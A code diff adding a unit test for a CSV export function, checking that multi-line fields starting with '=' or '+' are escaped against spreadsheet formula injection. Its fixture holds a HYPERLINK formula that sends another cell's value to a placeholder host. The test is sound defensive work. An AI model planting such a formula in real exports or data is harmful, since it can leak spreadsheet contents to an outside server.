@@ -203,6 +203,13 @@ describe('recordsToCsv', () => {
     expect(row.air_temp_f).toBe('-3.5');
   });
 
+  it('escapes a formula that goes on over several lines too (OWASP, CSV injection; papaparse’s pattern is single-line)', () => {
+    const notes = '=HYPERLINK("http://example.test/?d="&B2,"open")\nsprayed along the creek';
+    const [row] = Papa.parse<Record<string, string>>(recordsToCsv([dto({ notes, location: '+1\n2' })]), { header: true }).data;
+    expect(row.notes).toBe(`'${notes}`);
+    expect(row.location).toBe("'+1\n2");
+  });
+
   it('writes CRLF line ends (RFC 4180 §2.1) and a header row', () => {
     const csv = recordsToCsv([dto({ notes: null })]);
     expect(csv.split('\r\n')[0].split(',')[0]).toBe('record_id');
